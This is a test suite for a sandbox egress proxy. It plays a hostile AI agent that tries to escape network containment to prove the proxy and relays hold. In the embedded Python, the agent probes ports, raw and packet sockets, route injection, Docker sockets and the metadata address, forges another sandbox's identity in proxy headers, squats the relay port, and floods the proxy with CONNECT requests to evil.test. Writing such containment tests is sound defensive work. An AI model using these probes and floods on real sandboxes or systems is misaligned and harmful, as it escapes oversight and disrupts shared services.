// What a hostile agent tries around the egress proxy on a real engine: other ways out, another sandbox's identity, its relay's port, floods; and what
// is left when the proxy or a relay is frozen or dead. None of it opens anything, and whoever does it harms itself alone.
import { spawn } from "node:child_process";
import { once } from "node:events";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { bridgeAddress, docker, tryDocker, until } from "../src/controller/fixtures/docker.fixture.ts";
import { BUILD_MS_MAX, buildEgressImage } from "../src/controller/fixtures/egress.fixture.ts";
import { EgressSite, type Sandbox } from "./egress.fixture.ts";

const TEST_MS_MAX = 120_000;

const site = new EgressSite();
let subnets: string[] = [];

beforeAll(async () => {
  await buildEgressImage();
  await site.open(2);
  subnets = (await site.network()).subnets;
}, BUILD_MS_MAX);
afterAll(async () => await site.close());

/** Two sandboxes that may both reach good.test. */
async function openBoth(): Promise<{ own: Sandbox; other: Sandbox; allow: string[] }> {
  const [own, other] = site.sandboxes;
  if (own === undefined || other === undefined) throw new Error("no sandboxes");
  const allow = ["*.good.test", ...subnets];
  expect(await site.apply([{ allow }, { allow }])).toMatchObject({ code: 0, stderr: "" });
  return { own, other, allow };
}

/** One request by curl. */
async function reaches(sandbox: Sandbox): Promise<boolean> {
  return (await site.inside(sandbox, ["curl", "-sS", "--max-time", "3", "http://a.good.test/"])).stdout.startsWith("reached");
}

/** Prints what answered, one line each; everything that it tried otherwise. */
const WAYS_OUT = `import errno, os, socket, struct, sys
tried, reached = 0, []
def attempt(what, act):
    global tried
    tried += 1
    try:
        answer = act()
        if answer: reached.append(what + ": " + repr(answer)[:80])
    except OSError as error:
        pass
def tcp(address, port, family=socket.AF_INET):
    def act():
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(0.3)
            s.connect((address, port))
            return "connected"
    return act
QUERY = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x04good\\x04test\\x00\\x00\\x01\\x00\\x01"
def udp(address, port, family=socket.AF_INET):
    def act():
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(0.3)
            s.sendto(QUERY, (address, port))
            return s.recv(512)
    return act
def raw(protocol, address):
    def act():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
            s.settimeout(0.3)
            s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", (address, 0))
            return s.recv(512)
    return act
def ping(address):
    def act():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
            s.settimeout(0.3)
            s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", (address, 0))
            return s.recv(512)
    return act
def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s: return "a packet socket"
def add_route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        body = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("HHI", 8, 4, 1)
        s.send(struct.pack("IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
        code = struct.unpack("i", s.recv(512)[16:20])[0]
        return None if code else "a route"
for address in sys.argv[1].split(","):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for port in (22, 25, 53, 80, 443, 2375, 2376, 3128, 8080, 8443, 9464, 18789): attempt("tcp %s %d" % (address, port), tcp(address, port, family))
    for port in (53, 123, 443, 5353): attempt("udp %s %d" % (address, port), udp(address, port, family))
    if family == socket.AF_INET:
        attempt("icmp " + address, raw(socket.IPPROTO_ICMP, address))
        attempt("gre " + address, raw(47, address))
        # Loopback is the sandbox's own.
        if not address.startswith("127."): attempt("ping " + address, ping(address))
for name in ("a.good.test", "host.docker.internal", "gateway.docker.internal", "localhost.good.test"):
    attempt("name " + name, lambda: socket.getaddrinfo(name, 80))
attempt("packet", packet)
attempt("route", add_route)
attempt("bpf", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) and "a raw socket")
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/openclaw-egress", "/run/openclaw"):
    attempt(path, lambda: os.path.exists(path) and path)
for name in open("/proc/net/unix").read().split("\\n")[1:]:
    if "@" in name: attempt("abstract " + name, lambda: name)
interfaces = [name for _, name in socket.if_nameindex() if name != "lo" and not name.startswith(("tunl", "sit", "gre", "ip6", "erspan", "ip_vti", "teql", "gretap"))]
attempt("interface", lambda: interfaces)
print(tried)
for line in reached: print(line)`;

test(
  "without the proxy nothing leads out: no TCP, UDP, ICMP, DNS, raw or packet socket, no route, and no socket of the host, to any address",
  async () => {
    const { own: sandbox } = await openBoth();
    const addresses = await Promise.all((["server", "neighbour", "proxy"] as const).map((role) => site.addressOf(role)));
    const { gateways } = await site.network();
    const places = [
      ...addresses.flatMap(({ ipv4, ipv6 }) => [ipv4, ipv6]),
      ...gateways,
      await bridgeAddress(),
      "127.0.0.11",
      "8.8.8.8",
      "169.254.169.254",
      "255.255.255.255",
    ];
    const asRoot = await docker("exec", "--user=0:0", sandbox.container, "python3", "-c", WAYS_OUT, places.join(","));
    const asUser = await site.inside(sandbox, ["python3", "-c", WAYS_OUT, places.join(",")]);
    for (const output of [asRoot, asUser.stdout.trimEnd()]) {
      const [tried, ...reached] = output.split("\n");
      expect(reached).toEqual([]);
      expect(Number(tried)).toBeGreaterThan(200);
    }
    // The one way that there is, as proof that the places were there to be reached.
    expect(await reaches(sandbox)).toBe(true);
    expect((await site.served("neighbour")).length).toBe(1);
    expect((await site.served()).filter((line) => line.includes("secret"))).toEqual([]);
  },
  TEST_MS_MAX,
);

test(
  "a relay that is taken over reaches its own socket alone: another sandbox's folder can't be entered, and the volume can't be listed or changed",
  async () => {
    const { own, other, allow } = await openBoth();
    await site.apply([{ allow: [] }, { allow }]);
    const script = `cd /run/openclaw-egress
      ls . ${other.id} 2>&1; touch mine ${own.id}/mine 2>&1; rm -f ${own.id}/proxy.sock 2>&1; chmod 777 ${own.id} 2>&1; mkdir ${other.id}/x 2>&1
      cat ${other.id}/proxy.sock 2>&1; id -u`;
    const said = await docker("exec", own.relay, "sh", "-c", script);
    expect(said).toMatch(new RegExp(`^${own.uid}$`, "m"));
    expect(said.split("\n").filter((line) => !/denied|Read-only|not permitted|No such device|cannot open/.test(line))).toEqual([
      String(own.uid),
    ]);
    const ask = `printf 'CONNECT a.good.test:80 HTTP/1.1\\r\\n\\r\\n' | socat -t 3 - UNIX-CONNECT:/run/openclaw-egress/PLACE/proxy.sock 2>&1; true`;
    expect(await docker("exec", own.relay, "sh", "-c", ask.replace("PLACE", other.id))).toMatch(/Permission denied/);
    // Over its own it is who it is, whatever it says.
    const forged = ask
      .replace("PLACE", own.id)
      .replace("\\r\\n\\r\\n", `\\r\\nX-Sandbox: ${other.id}\\r\\nProxy-Authorization: Basic ${other.id}\\r\\n\\r\\n`);
    expect(await docker("exec", own.relay, "sh", "-c", forged)).toMatch(/403 Forbidden/);
    expect(await reaches(other)).toBe(true);
    expect(await reaches(own)).toBe(false);
  },
  TEST_MS_MAX,
);

test(
  "an agent that binds the relay's port first, or tries to end the relay, keeps itself from everything, and another one from nothing",
  async () => {
    const { own: hostile, other } = await openBoth();
    // Its processes are not even seen from inside.
    const { stdout: seen } = await site.inside(hostile, ["sh", "-c", "cat /proc/[0-9]*/comm"]);
    expect(seen).toMatch(/^sleep$/m);
    expect(seen).not.toMatch(/socat|node/);
    await docker("rm", "--force", hostile.relay);
    const holder = 'import socket, time; s = socket.create_server(("127.0.0.1", 3128)); print("bound", flush=True); time.sleep(600)';
    const holding = spawn("docker", ["exec", hostile.container, "python3", "-c", holder], { stdio: ["ignore", "pipe", "ignore"] });
    onTestFinished(() => void holding.kill("SIGKILL"));
    await once(holding.stdout, "data");
    await site.startRelay(hostile);
    await until("the relay has ended", async () => (await docker("inspect", "--format", "{{.State.Running}}", hostile.relay)) === "false");
    expect(await docker("logs", hostile.relay)).toBe("");
    expect(await reaches(hostile)).toBe(false);
    expect(await reaches(other)).toBe(true);
    await docker("restart", "--time=0", hostile.container);
    await docker("rm", "--force", hostile.relay);
    await site.startRelay(hostile);
    await until("it is served again", async () => await reaches(hostile));
  },
  TEST_MS_MAX,
);

/** As many connections as it gets, each as slow or as fast as hurts most, for as long as the test takes. */
const FLOOD = `import os, socket, threading, time
def storm():
    while True:
        try:
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            s.sendall(b"CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n" * 20)
            s.recv(4096)
            s.close()
        except OSError: pass
def hold():
    while True:
        try:
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            s.sendall(b"GET http://a.good.test/ HTTP/1.1\\r\\nX: ")
            while True:
                s.sendall(b"x" * 900)
                time.sleep(0.05)
        except OSError: pass
for act in [storm] * 30 + [hold] * 60: threading.Thread(target=act, daemon=True).start()
print(os.getpid(), flush=True)
time.sleep(600)`;

test(
  "an agent that floods the proxy starves itself: every request of another one is answered meanwhile",
  async ({ skip }) => {
    skip(process.env.OPENCLAW_TEST_LONG !== "1", "it takes most of a minute: OPENCLAW_TEST_LONG=1 runs it");
    const { own: hostile, other } = await openBoth();
    const flood = spawn("docker", ["exec", hostile.container, "python3", "-c", FLOOD], { stdio: ["ignore", "pipe", "ignore"] });
    onTestFinished(() => void flood.kill("SIGKILL"));
    const [pid] = (await once(flood.stdout, "data")) as [Buffer];
    // The end of its client does not end it.
    onTestFinished(async () => void (await site.inside(hostile, ["sh", "-c", `kill -9 ${pid}`])));
    await until("the proxy refuses the flood", async () =>
      (await site.records()).some((record) => record.kind === "lost" && record.id === hostile.id),
    );
    for (let round = 0; round < 30; round += 1) expect(await reaches(other), `round ${round}`).toBe(true);
    const records = await site.records();
    expect(records.filter((record) => record.id === other.id && record.kind === "decision").length).toBeGreaterThanOrEqual(30);
    expect(records.filter((record) => record.id === other.id && record.kind === "lost")).toEqual([]);
    const memory = await docker("exec", site.proxy, "sh", "-c", "grep -h VmRSS /proc/[0-9]*/status");
    const kilobytes = Math.max(...[...memory.matchAll(/(\d+) kB/g)].map(([, digits]) => Number(digits)));
    expect(kilobytes).toBeGreaterThan(20_000);
    expect(kilobytes).toBeLessThan(300_000);
  },
  TEST_MS_MAX,
);

test(
  "a proxy or a relay that is frozen or dead leaves nothing open, and a new one with the same list is as before",
  async () => {
    const { own: sandbox, allow } = await openBoth();
    for (const container of [site.proxy, sandbox.relay]) {
      expect(await reaches(sandbox)).toBe(true);
      await docker("pause", container);
      expect(await reaches(sandbox)).toBe(false);
      await docker("unpause", container);
      expect(await reaches(sandbox)).toBe(true);
    }
    await docker("kill", sandbox.relay);
    expect(await reaches(sandbox)).toBe(false);
    await docker("start", sandbox.relay);
    await until("the relay serves", async () => await reaches(sandbox));
    await docker("kill", site.proxy);
    expect(await reaches(sandbox)).toBe(false);
    await docker("start", site.proxy);
    await until("the proxy answers", async () => (await site.command("status")).code === 0);
    // It remembers nothing.
    expect((await site.command("status")).stdout).toBe('{"generation":null,"sandboxes":0,"tunnels":0}\n');
    expect(await reaches(sandbox)).toBe(false);
    await site.apply([{ allow }]);
    expect(await reaches(sandbox)).toBe(true);
    await tryDocker("rm", "--force", site.proxy);
    expect(await reaches(sandbox)).toBe(false);
  },
  TEST_MS_MAX,
);
